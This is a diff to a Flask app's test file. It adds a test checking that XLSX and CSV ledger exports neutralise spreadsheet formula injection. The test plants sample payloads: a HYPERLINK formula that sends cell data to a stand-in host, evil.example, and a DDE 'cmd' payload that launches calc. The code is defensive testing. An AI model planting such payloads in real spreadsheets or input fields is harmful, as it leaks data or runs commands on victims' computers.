@@ -362,3 +362,43 @@ def test_next_after_login_never_leads_off_site(demo_app: Flask) -> None:
         assert "\\" not in location and "\t" not in location and "\n" not in location
     kept = client.post("/login", query_string={"next": "/admin/week?tab=1"}, data=data)
     assert kept.headers["Location"] == "/admin/week?tab=1"  # a path on this site is kept
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet exports: text people typed never becomes a formula in Excel
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
+def test_exports_never_turn_typed_text_into_formulas(demo_app: Flask) -> None:
+    from openpyxl import load_workbook
+
+    with demo_app.app_context():
+        build_world()  # two pledges, so the ledger has rows
+        for offer in db.session.scalars(select(Offer)):
+            offer.title = FORMULAS[0]
+        for need in db.session.scalars(select(Need)):
+            need.title = FORMULAS[1]
+        for allocation in db.session.scalars(select(Allocation)):
+            allocation.problem_note = FORMULAS[2]
+        db.session.commit()
+    client = demo_app.test_client()
+    login(client, "admin")
+    sheets = {
+        "/ledger.xlsx": client.get("/ledger.xlsx").data,
+        "/import/needs/current.xlsx": client.get("/import/needs/current.xlsx").data,
+    }
+    seen = 0
+    for url, data in sheets.items():
+        workbook = load_workbook(io.BytesIO(data))
+        for sheet in workbook.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", f"{url} {cell.coordinate}: formula {cell.value}"
+                    if isinstance(cell.value, str) and "evil.example" in cell.value:
+                        seen += 1
+    text = client.get("/ledger.csv").data.decode("utf-8-sig")
+    for line in text.splitlines():
+        for cell in line.split(","):
+            assert not cell.strip('"').startswith(("=", "+", "@")), f"/ledger.csv: {cell}"
+    assert seen and "evil.example" in text, "the planted text is missing: the test proves nothing"
